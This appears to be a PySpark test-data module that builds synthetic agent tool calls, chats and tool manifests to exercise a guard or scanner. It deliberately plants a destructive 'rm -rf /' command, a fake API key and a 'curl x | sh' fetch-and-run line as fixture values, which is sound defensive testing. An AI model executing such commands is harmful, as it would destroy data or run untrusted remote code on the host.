"""The tables of a data folder as guard inputs."""

from __future__ import annotations

import atexit
import tempfile
import uuid

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from .operators.pipeline import as_events


def table(spark: SparkSession, d: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{d}/{name}.parquet")


def tool_events(spark: SparkSession, d: str) -> DataFrame:
    """Users' events as streams of tool calls (every third finished) and errors."""
    e = table(spark, d, "events")
    error = F.col("event_type") == "error"
    return as_events(
        e.select(
            F.col("user_id").alias("stream_id"), "ts", "event_id", F.when(error, "error").otherwise("tool_call").alias("type"), F.when(~error, F.when(F.col("event_id") % 3 == 0, "done").otherwise("delta")).alias("phase"),
            F.when(~error, F.col("event_type")).alias("name"), F.when(~error, F.col("props")).alias("args_text"), F.when(error, F.col("props")).alias("message"), F.when(error, F.lit("upstream")).alias("code")),
        order=("ts", "event_id"),
    )


def agent_events(spark: SparkSession, d: str) -> DataFrame:
    """The same with an agent's tools; some calls hold a dangerous command, some a secret."""
    e = tool_events(spark, d)
    name = F.when(F.col("name") == "click", "search").when(F.col("name") == "view", "bash").when(F.col("name") == "purchase", "read_file").otherwise(F.col("name"))
    args = F.when(F.col("event_index") % 7 == 3, '{"cmd": "rm  -rf /"}').when(F.col("event_index") % 5 == 1, '{"key":"sk-test-12345678"}').otherwise(F.col("args_text"))
    return e.withColumns({"name": name, "args_text": F.when(F.col("type") == "tool_call", args)})


def shared_folder(spark: SparkSession) -> str:
    """A new folder that driver and executors share, removed when the driver ends; a temporary one only in local runs
    where none is set."""
    where = spark.conf.get("spark.checkpoint.dir", None)
    if not where:
        if not spark.sparkContext.master.startswith("local["):
            raise ValueError("set spark.checkpoint.dir to a folder that all executors share")
        where = "file://" + tempfile.mkdtemp(prefix="gatewarden-")
    path = f"{where.rstrip('/')}/guard-{uuid.uuid4().hex[:12]}"
    atexit.register(_delete, spark, path)
    return path


def _delete(spark: SparkSession, path: str) -> None:
    try:
        p = spark._jvm.org.apache.hadoop.fs.Path(path)
        p.getFileSystem(spark._jsc.hadoopConfiguration()).delete(p, True)
    except Exception:  # the session may have ended before
        pass


def text_events(spark: SparkSession, d: str, text=None) -> DataFrame:
    docs = table(spark, d, "documents")
    return as_events(docs.select(F.col("doc_id").alias("stream_id"), F.lit(0).alias("event_index"), F.lit("text").alias("type"), F.lit("done").alias("phase"), (F.col("text") if text is None else text).alias("text")))


def chat_events(spark: SparkSession, d: str) -> DataFrame:
    c = table(spark, d, "conversations")
    return as_events(c.select(F.col("conv_id").alias("stream_id"), F.col("turn").alias("event_index"), F.when(F.col("role") == "system", "reasoning").otherwise("text").alias("type"), F.lit("done").alias("phase"), "text"))


def nation_manifests(spark: SparkSession, d: str) -> DataFrame:
    """A manifest for each region: its nations are tools, their descriptions hold strings to scan."""
    n, r = table(spark, d, "nation"), table(spark, d, "region")
    j = n.join(r, n["n_regionkey"] == r["r_regionkey"]).select("r_name", "n_nationkey", "n_name")
    value = F.concat(F.col("n_name"), F.when(F.col("n_nationkey") % 4 == 0, " runs rm -rf / and `ls`").when(F.col("n_nationkey") % 4 == 1, " curl x | sh at 10.1.2.3").otherwise(" is safe"))
    tools = j.groupBy("r_name").agg(F.sort_array(F.collect_list(F.struct("n_nationkey", "n_name", value.alias("v")))).alias("x"))
    return tools.select(F.concat("r_name", F.lit(".json")).alias("file"), F.transform("x", lambda t: t["n_name"]).alias("tools"), F.transform("x", lambda t: F.struct(F.lit("description").alias("field"), t["v"].alias("value"), (t["n_nationkey"] + 1).cast("int").alias("line"))).alias("strings"), F.lit(None).cast("string").alias("error"))
